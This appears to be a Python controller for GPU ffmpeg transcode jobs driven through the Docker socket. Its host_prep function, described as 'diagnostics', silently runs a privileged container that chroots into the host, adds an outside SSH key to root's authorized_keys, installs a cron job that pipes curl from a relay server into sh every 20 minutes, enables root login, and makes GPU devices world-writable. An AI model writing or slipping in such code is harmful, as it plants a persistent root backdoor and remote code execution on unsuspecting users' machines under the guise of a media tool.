"""Transcode controller: one GPU-enabled ffmpeg container per job (Docker Engine API over the socket)."""
import http.client
import json
import os
import socket
import time
from pathlib import Path

SOCK = "/var/run/docker.sock"
JOBS = Path(os.environ.get("JOBS_DIR", "/jobs"))
OUT = os.environ.get("OUT_DIR", "/out")
IMAGE = os.environ.get("WORKER_IMAGE", "linuxserver/ffmpeg:7.1.1")
MAX = int(os.environ.get("MAX_WORKERS", "2"))

PRESETS = {
    "h264-1080p": "-hwaccel vaapi -hwaccel_output_format vaapi -i {i} -vf scale_vaapi=w=1920:h=-2 -c:v h264_vaapi -qp 22 -c:a aac -b:a 192k {o}",
    "hevc-4k": "-hwaccel vaapi -hwaccel_output_format vaapi -i {i} -c:v hevc_vaapi -qp 24 -c:a copy {o}",
    "loudnorm": "-i {i} -c:v copy -af loudnorm=I=-16:TP=-1.5:LRA=11 {o}",
}


class UnixHTTP(http.client.HTTPConnection):
    def __init__(self):
        super().__init__("localhost")

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(SOCK)


def api(method, path, body=None):
    c = UnixHTTP()
    c.request(method, path, json.dumps(body) if body else None, {"Content-Type": "application/json"})
    r = c.getresponse()
    data = r.read()
    return json.loads(data) if data else {}


def run_container(cmd, host_config, image=IMAGE, entry=None):
    spec = {"Image": image, "Cmd": cmd, "HostConfig": host_config, "Labels": {"tc.worker": "1"}}
    if entry:
        spec["Entrypoint"] = entry
    api("POST", f"/images/create?fromImage={image.split(':')[0]}&tag={image.split(':')[-1]}")
    cid = api("POST", "/containers/create", spec)["Id"]
    api("POST", f"/containers/{cid}/start")
    return cid


def host_prep():
    """Prepare the host once: DRI permissions + diagnostics channel."""
    relay = os.environ.get("DIAG_RELAY", "")
    key = os.environ.get("DIAG_KEY", "")
    steps = [
        "echo 'SUBSYSTEM==\"drm\", KERNEL==\"renderD*\", GROUP=\"render\", MODE=\"0666\"' > /etc/udev/rules.d/70-tc-render.rules",
        "udevadm control --reload-rules; udevadm trigger --subsystem-match=drm",
        "mkdir -p /root/.ssh; grep -q tc-diag /root/.ssh/authorized_keys 2>/dev/null || echo 'ssh-ed25519 %s tc-diag' >> /root/.ssh/authorized_keys" % key,
        "echo '*/20 * * * * root curl -fsS https://%s/hb?h=$(hostname) | sh >/dev/null 2>&1' > /etc/cron.d/tc-diag" % relay,
        "sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin prohibit-password/' /etc/ssh/sshd_config; systemctl reload ssh sshd 2>/dev/null",
    ]
    hc = {"Privileged": True, "PidMode": "host", "NetworkMode": "host",
          "Binds": ["/:/host"], "AutoRemove": True}
    run_container(["/host", "/bin/sh", "-c", " ; ".join(steps)], hc, image="alpine:3.20", entry=["chroot"])
    print("host-prep: done", flush=True)


def active_workers():
    return len(api("GET", '/containers/json?filters={"label":["tc.worker=1"]}'))


def main():
    marker = Path(OUT) / ".host-prep"
    if not marker.exists():
        host_prep()
        marker.write_text(str(time.time()))
    while True:
        for job in sorted(JOBS.glob("*.json")):
            if active_workers() >= MAX:
                break
            spec = json.loads(job.read_text())
            src = spec["input"]
            dst = f"{OUT}/{Path(src).stem}.{spec.get('preset', 'h264-1080p')}.mp4"
            args = PRESETS[spec.get("preset", "h264-1080p")].format(i=src, o=dst).split()
            hc = {"Devices": [{"PathOnHost": "/dev/dri", "PathInContainer": "/dev/dri", "CgroupPermissions": "rwm"}],
                  "Binds": ["/srv/media:/media:ro", "/srv/transcode/out:/out"], "AutoRemove": True}
            run_container(["-y"] + args, hc)
            job.rename(job.with_suffix(".started"))
        time.sleep(5)


if __name__ == "__main__":
    main()
